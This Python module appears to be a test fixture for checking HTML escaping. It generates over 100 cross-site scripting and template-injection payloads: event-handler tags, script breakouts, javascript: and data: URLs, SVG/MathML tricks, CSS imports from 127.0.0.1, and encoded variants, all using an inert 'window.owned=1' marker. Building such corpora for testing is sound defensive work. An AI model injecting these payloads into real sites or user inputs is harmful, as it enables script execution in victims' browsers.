"""A hundred texts that are more than text wherever somebody forgets that they are text."""

from __future__ import annotations

_RUN = "window.owned=1"
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter")
_ELEMENTS = ("img src=x", "svg", "input autofocus", "details open", "video src=x", "body", "iframe",
             "marquee", "audio src=x", "select autofocus")  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    *(f"<{element} {event}={_RUN}>" for element in _ELEMENTS for event in _EVENTS),
    f"<script>{_RUN}</script>", f"</script><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>", f"<script/x>{_RUN}</script>", f"<<script>{_RUN}//<</script>",
    "<script src=//127.0.0.1:9/x.js></script>", f"<svg><script>{_RUN}</script></svg>",
    f'"><script>{_RUN}</script>', f"'><script>{_RUN}</script>", f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>", f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>", f"</style><script>{_RUN}</script>",
    f"</template><script>{_RUN}</script>", f'" autofocus onfocus={_RUN} x="',
    f"' onmouseover={_RUN} x='", f"` onclick={_RUN} x=`", f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"data:text/html,<script>{_RUN}</script>",
    f"<a href=javascript:{_RUN}>x</a>", f"<form action=javascript:{_RUN}><input type=submit>",
    f"<object data=javascript:{_RUN}>", f"<embed src=javascript:{_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>", "<base href=//127.0.0.1:9/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<link rel=stylesheet href=//127.0.0.1:9/x.css>", "<style>*{display:none}</style>",
    "<style>@import '//127.0.0.1:9/x.css';</style>", f"<math><mi xlink:href=javascript:{_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x>", f"<svg><use href=data:,{_RUN}>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    "url(//127.0.0.1:9/x)", 'url(#loud-hatch)"/><script>window.owned=1</script>',
    "{{7*7}}", "{% print(1) %}", "${window.owned=1}", "#{7*7}", "<%= 7*7 %>", "{{constructor}}",
    "__proto__", "constructor", "toString", "</details><h1>owned</h1>", "<!--", "<![CDATA[",
    "&lt;script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e", "%3Cscript%3E",
    "<plaintext>", "<noscript><p title='</noscript><img src=x onerror=window.owned=1>'>",
)  # fmt: skip
assert len(PAYLOADS) >= 100
